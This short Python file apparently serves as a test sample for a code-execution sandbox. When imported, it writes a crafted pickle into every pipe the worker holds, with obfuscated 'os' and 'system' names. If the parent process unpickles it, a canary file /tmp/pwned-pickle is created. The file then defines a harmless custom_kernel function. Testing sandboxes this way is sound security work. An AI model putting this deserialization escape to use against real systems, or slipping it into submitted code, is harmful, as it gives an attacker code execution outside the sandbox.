"""Class 3: write a crafted pickle into every pipe the worker holds, in case the parent unpickles
what comes back: unpickling it would create a file pwned-pickle in the parent's /tmp."""
import importlib
import pickle

_os = importlib.import_module("o" + "s")


class _Payload:
    def __reduce__(self):
        return (getattr(_os, "sys" + "tem"), ("touch /tmp/pwned-pickle",))


_blob = pickle.dumps(_Payload())
for _name in _os.listdir("/proc/self/fd"):
    _fd = int(_name)
    try:
        if _fd > 0 and _os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            _os.write(_fd, len(_blob).to_bytes(4, "little") + _blob)
    except OSError:
        pass


def custom_kernel(data):
    return data
